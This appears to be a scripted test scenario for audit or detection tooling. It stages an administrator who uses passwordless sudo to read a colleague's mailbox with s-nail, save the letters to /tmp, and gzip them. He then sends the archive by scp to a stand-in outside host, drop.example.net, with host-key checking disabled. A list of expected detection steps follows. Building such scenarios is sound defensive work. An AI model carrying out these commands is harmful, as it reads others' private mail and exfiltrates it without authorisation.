title="An administrator reads a colleague's spool with mail(1), saves letters to a file and takes it away with scp"
what="dev, who may use sudo for package work, opens /var/mail/buyer with s-nail as root, reads, saves the letters to a file in /tmp, gives it to himself, gzips it and copies it with scp in the evening to a machine outside. In between his ordinary work."
user=dev daemons="cron sshd" store=mbox audit_rules=audit-site.rules
setup() { outside_sshd; echo 'dev ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/dev; chmod 440 /etc/sudoers.d/dev; }
act() {
  letters buyer 6
  small_talk 3
  ssh_as dev <<'L'
mkdir -p work && cd work
git init -q .
echo 'all:' > Makefile
git add Makefile
cd
sudo s-nail -R -f /var/mail/buyer
%keys h\n
%keys 2\n
%keys q\n
%keys copy 1-6 /tmp/todo.txt\n
%keys x\n
%sleep 1
sudo chown dev /tmp/todo.txt
wc -l /tmp/todo.txt
cd work; git status --short; cd
L
  small_talk 2
  sleep 2
  ssh_as dev <<'L'
gzip /tmp/todo.txt
scp -q -B -o StrictHostKeyChecking=no -i ~/.ssh/id_out -P 2222 /tmp/todo.txt.gz root@drop.example.net:/tmp/todo.gz
rm /tmp/todo.txt.gz
L
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'mail lies in the spool of buyer'
  exec_step read 's-nail -R -f /var/mail/buyer' 'somebody else opens it as root'
  exec_step squeeze 'gzip /tmp/todo.txt' 'what was saved is squeezed'
  exec_step transfer 'scp -q -B' 'and sent away'
  net_step connect 'ssh 203.0.113.66:2222' 'to an address outside'
}
